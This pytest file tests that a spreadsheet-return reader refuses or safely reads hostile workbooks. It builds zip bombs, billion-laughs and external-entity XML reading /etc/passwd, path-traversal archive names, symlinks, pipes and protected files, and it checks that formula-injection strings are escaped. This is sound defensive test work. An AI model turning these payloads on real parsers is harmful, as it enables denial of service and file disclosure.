"""Files that would harm a reader, by accident or on purpose: each is refused or read, quickly, with one clear line."""

import io
import os
import shutil
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from receive_files import KENT, put, read_book, write_book, write_return

from wres.issues import Refused, message, rules
from wres.limits import limit
from wres.read_return import read_cells, read_returns
from wres.safe_text import safe_text, safe_texts
from wres.sent_return import is_return

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
MOST_SECONDS, MOST_BYTES = 5, 500_000_000


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def changed(folder: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """Write a sound return with one part of its archive changed."""
    parts = parts_of(write_return(folder / "sound.xlsx"))
    parts[part] = change(parts.get(part, b""))
    return pack(folder / "changed.xlsx", parts)


def sheet_of(rows: bytes) -> Callable[[bytes], bytes]:
    """Return a change that puts rows at the end of a sheet."""
    return lambda sheet: sheet.replace(b"</sheetData>", rows + b"</sheetData>")


def bomb(folder: Path) -> Path:
    return changed(folder, "xl/worksheets/sheet2.xml", sheet_of(b"<row/>" * 8_000_000))


def bomb_of_many_parts(folder: Path) -> Path:
    parts = parts_of(write_return(folder / "sound.xlsx"))
    parts |= {f"xl/worksheets/more{number}.xml": os.urandom(100) * 100_000 for number in range(12)}
    return pack(folder / "changed.xlsx", parts)


def parts_without_end(folder: Path) -> Path:
    parts = parts_of(write_return(folder / "sound.xlsx"))
    return pack(folder / "changed.xlsx", parts | {f"xl/media/{number}.txt": b"." for number in range(2_000)})


def bomb_that_lies(folder: Path) -> Path:
    """Write a workbook of which a part unpacks to far more than the archive's directory says."""
    sheet = b"<worksheet>" + b" " * 200_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(sheet) + packer.flush()
    path = folder / "lies.xlsx"
    parts = parts_of(write_return(folder / "sound.xlsx"))
    name = "xl/worksheets/sheet2.xml"
    placeholder = os.urandom(len(packed))
    with zipfile.ZipFile(path, "w") as archive:
        for other, content in parts.items():
            if other != name:
                archive.writestr(other, content)
        archive.writestr(name, placeholder)
    data = bytearray(path.read_bytes())
    data[data.index(placeholder) : data.index(placeholder) + len(packed)] = packed
    for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = data.rindex(signature) if signature == b"PK\x01\x02" else data.rindex(signature, 0, data.index(packed))
        data[start + at : start + at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    path.write_bytes(data)
    return path


def entities(folder: Path) -> Path:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<!DOCTYPE sst [<!ENTITY l0 "ha">{laughs}]>'.encode()
    return changed(folder, "xl/sharedStrings.xml", lambda part: part.replace(b"<sst", head + b"<sst", 1))


def outside_entity(folder: Path) -> Path:
    head = b'<!DOCTYPE workbook [<!ENTITY secret SYSTEM "file:///etc/passwd">]><workbook'
    return changed(folder, "xl/workbook.xml", lambda part: part.replace(b"<workbook", head, 1))


def entities_in_other_characters(folder: Path) -> Path:
    head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s [<!ENTITY a "b">]>'
    return changed(folder, "xl/styles.xml", lambda _: (head + "<styleSheet/>").encode("utf-16"))


def far_cell(folder: Path) -> Path:
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return changed(folder, "xl/worksheets/sheet2.xml", sheet_of(cell))


def many_sheets(folder: Path) -> Path:
    parts = parts_of(write_return(folder / "sound.xlsx"))
    return pack(folder / "sheets.xlsx", parts | {f"xl/worksheets/sheet{n}.xml": b"<worksheet/>" for n in range(10_000)})


def many_parts(folder: Path) -> Path:
    parts = parts_of(write_return(folder / "sound.xlsx"))
    return pack(folder / "parts.xlsx", parts | {f"xl/media/image{number}.png": b"" for number in range(5_000)})


def many_cells(folder: Path) -> Path:
    def row(number: int) -> str:
        cells = "".join(f'<c r="{letter}{number}"><v>{number * 7919}</v></c>' for letter in "ABCDEFGHIJ")
        return f'<row r="{number}">{cells}</row>'

    rows = "".join(row(number) for number in range(20, 30_000))
    return changed(folder, "xl/worksheets/sheet2.xml", sheet_of(rows.encode()))


def protected(folder: Path) -> Path:
    path = folder / "protected.xlsx"
    path.write_bytes(OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600))
    return path


def protected_parts(folder: Path) -> Path:
    path = write_return(folder / "protected.xlsx")
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    path.write_bytes(data)
    return path


def archive_of_returns(folder: Path) -> Path:
    path = folder / "returns.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(write_return(folder / "kent.xlsx"), "../../kent.xlsx")
    return path


def archive_of_others(folder: Path) -> Path:
    return pack(folder / "letter.docx", {"word/document.xml": b"<w/>"})


def too_large(folder: Path) -> Path:
    path = folder / "large.xlsx"
    with path.open("wb") as file:
        file.write(b"PK\x03\x04")
        file.truncate(limit("file_bytes") + 1)
    return path


def cut_off(folder: Path) -> Path:
    path = folder / "cut.xlsx"
    path.write_bytes(write_return(folder / "sound.xlsx").read_bytes()[:-2000])
    return path


def link(folder: Path) -> Path:
    (folder / "link.xlsx").symlink_to(write_return(folder / "sound.xlsx"))
    return folder / "link.xlsx"


def pipe(folder: Path) -> Path:
    os.mkfifo(folder / "pipe.xlsx")
    return folder / "pipe.xlsx"


def other_program(folder: Path) -> Path:
    path = folder / "letter.doc"
    path.write_bytes(OLE + bytes(600) + "WordDocument".encode("utf-16-le") + bytes(600))
    return path


def repeated_cells(folder: Path) -> Path:
    """Write an open document of a few hundred bytes that stands for more cells than there is memory."""
    cell = '<table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"/>'
    row = f'<table:table-row table:number-rows-repeated="1048000">{cell}</table:table-row>'
    return write_ods(folder / "many.ods", {"Cover": row})


def write_ods(path: Path, sheets: dict[str, str]) -> Path:
    """Write an open document with the rows of each sheet."""
    tables = "".join(f'<table:table table:name="{name}">{rows}</table:table>' for name, rows in sheets.items())
    names = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    body = f"<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body>"
    content = f'<?xml version="1.0"?><office:document-content{names}>{body}</office:document-content>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return pack(
        path, {"mimetype": kind.encode(), "META-INF/manifest.xml": manifest.encode(), "content.xml": content.encode()}
    )


REFUSED = {
    bomb: "unpacks_too_large",
    bomb_of_many_parts: "unpacks_too_large",
    parts_without_end: "too_many_parts",
    bomb_that_lies: "unreadable_workbook",
    entities: "unsafe_workbook",
    outside_entity: "unsafe_workbook",
    entities_in_other_characters: "unsafe_workbook",
    far_cell: "too_heavy_to_read",
    many_sheets: "too_many_sheets",
    many_parts: "too_many_parts",
    many_cells: "too_many_cells",
    repeated_cells: "too_heavy_to_read",
    protected: "password_protected",
    protected_parts: "password_protected",
    archive_of_returns: "archive_not_workbook",
    archive_of_others: "unreadable_workbook",
    other_program: "unreadable_workbook",
    too_large: "file_too_large",
    cut_off: "unreadable_workbook",
    link: "is_a_link",
    pipe: "not_a_plain_file",
}

READ = """
import resource, sys, time
from pathlib import Path
from wres.issues import Refused
from wres.read_return import read_cells
before = time.process_time() + sum(resource.getrusage(resource.RUSAGE_CHILDREN)[:2])
try:
    read_cells(Path(sys.argv[1]), "a")
    print("read", end=" ")
except Refused as refusal:
    print(refusal.rule_code, end=" ")
spent = time.process_time() + sum(resource.getrusage(resource.RUSAGE_CHILDREN)[:2]) - before
# What the system says of this process itself begins with the size of the one that started it.
own = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM"))
peak = max(int(own.split()[1]), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(spent, peak * 1024)
"""


@pytest.mark.parametrize("write", REFUSED, ids=lambda write: write.__name__)
def test_a_harmful_file_is_refused_quickly_and_says_what_to_do(tmp_path, write):
    path = write(tmp_path)
    with pytest.raises(Refused) as refusal:
        read_cells(path, "a")
    assert refusal.value.rule_code == REFUSED[write]
    text = message(REFUSED[write], file=path.name, path=path, **refusal.value.values)
    assert path.name in text
    assert "{" not in text
    assert rules().at[REFUSED[write], "what_to_do"]


@pytest.mark.parametrize(
    "write",
    [bomb, bomb_that_lies, entities, far_cell, many_sheets, many_cells, repeated_cells],
    ids=lambda write: write.__name__,
)
def test_a_harmful_file_takes_little_time_and_memory(tmp_path, write):
    run = subprocess.run([sys.executable, "-c", READ, write(tmp_path)], capture_output=True, text=True, check=True)
    code, seconds, peak = run.stdout.split()
    assert code == REFUSED[write]
    assert float(seconds) < MOST_SECONDS
    assert float(peak) < MOST_BYTES


def test_zero_bytes_and_a_folder_are_refused(tmp_path):
    (tmp_path / "empty.xlsx").touch()
    for path, code in ((tmp_path, "is_a_folder"), (tmp_path / "none.xlsx", "no_such_file")):
        with pytest.raises(Refused) as refusal:
            read_cells(path, "a")
        assert refusal.value.rule_code == code
    assert not is_return(tmp_path / "empty.xlsx")


# ------------------------------------------------------------------------------------------ read all the same


def test_a_million_empty_rows_are_read_past(tmp_path):
    rows = b"".join(b'<row r="%d" ht="15"/>' % number for number in range(60, 1_000_000, 3))
    path = changed(tmp_path, "xl/worksheets/sheet2.xml", sheet_of(rows))
    start = time.perf_counter()
    reading, _ = read_returns(read_cells(path, "a"))
    assert time.perf_counter() - start < MOST_SECONDS
    assert reading.observations["measure"].eq("staff").any()
    assert len(reading.issues) == 0


def test_a_stray_cell_far_below_is_read_and_named(tmp_path):
    cell = b'<row r="20000"><c r="A20000"><v>7</v></c></row>'
    path = changed(tmp_path, "xl/worksheets/sheet2.xml", sheet_of(cell))
    reading, _ = read_returns(read_cells(path, "a"))
    assert list(zip(reading.issues["cell"], reading.issues["rule_code"], strict=True)) == [
        ("A20000", "cell_not_recognised")
    ]
    assert (
        reading.facts["cells_filled"]
        == reading.facts[["cells_used", "cells_recognised", "cells_in_issues"]].sum(axis=1)
    ).all()


@pytest.mark.parametrize("name", ["kent.csv", "kent.xls", "kent", "kent.pdf", "kent.XLSX "])
def test_content_decides_and_not_the_name(tmp_path, name):
    path = tmp_path / name
    shutil.copyfile(write_return(tmp_path / "sound.xlsx"), path)
    assert is_return(path)
    reading, _ = read_returns(read_cells(path, "a"))
    assert list(reading.facts["organisation_code"]) == [KENT]


def test_macros_and_links_to_other_files_are_left_out_and_said(tmp_path):
    parts = parts_of(write_return(tmp_path / "sound.xlsx"))
    parts |= {
        "xl/vbaProject.bin": b"macro",
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "../../../evil.xml": b"<x/>",
        "/abs.xml": b"<x/>",
    }
    reading, _ = read_returns(read_cells(pack(tmp_path / "kent.xlsm", parts), "a"))
    assert sorted(reading.issues["rule_code"]) == ["external_links_ignored", "macros_ignored"]
    assert set(reading.issues["rule_code"].map(rules()["severity"])) == {"info"}
    assert not (tmp_path.parent / "evil.xml").exists()


def test_a_formula_where_a_heading_belongs_is_named(tmp_path):
    from receive_files import Formula

    book = read_book(write_return(tmp_path / "kent.xlsx"))
    put(book, "Leavers", "B4", Formula('=HYPERLINK("http://example.org/?"&A1,"Left the organisation")', ""))
    reading, _ = read_returns(read_cells(write_book(tmp_path / "formula.xlsx", book), "a"))
    assert ("Leavers", "B4") in set(zip(reading.issues["sheet"], reading.issues["cell"], strict=True))
    assert "columns_not_found" in set(reading.issues["rule_code"])
    assert not reading.observations["measure"].eq("leavers").any()


def test_a_failing_reader_of_its_own_process_is_a_refusal(tmp_path, monkeypatch):
    path = write_ods(tmp_path / "kent.ods", {"Cover": "<table:table-row/>"})
    monkeypatch.setattr("wres.workbook.sys.executable", shutil.which("false"))
    with pytest.raises(Refused) as refusal:
        read_cells(path, "a")
    assert refusal.value.rule_code == "too_heavy_to_read"


# ------------------------------------------------------------------------------------------ what we write


@pytest.mark.parametrize("text", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1", "|calc", "-2+3"])
def test_what_looks_like_a_formula_is_guarded(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Kent", "-3", "+12", "-3.5", "", "a=b", "12", "'quoted"])
def test_other_texts_are_left_as_they_are(text):
    assert safe_text(text) == text


def test_a_whole_table_is_made_safe():
    import pandas as pd

    table = safe_texts(pd.DataFrame({"=cmd": ["@x", "ok"], "number": [-1, 2]}))
    assert table.to_csv(index=False) == "'=cmd,number\n'@x,-1\nok,2\n"


def test_a_workbook_in_memory_is_unpacked_once(tmp_path):
    """The reader of workbooks sees an archive of stored parts only: nothing in it can unpack to more."""
    from wres.container import file_bytes, open_container
    from wres.workbook import _repacked

    container = open_container(file_bytes(write_return(tmp_path / "kent.xlsx")))
    with zipfile.ZipFile(io.BytesIO(_repacked(container.parts).getvalue())) as archive:
        assert {entry.compress_type for entry in archive.infolist()} == {zipfile.ZIP_STORED}
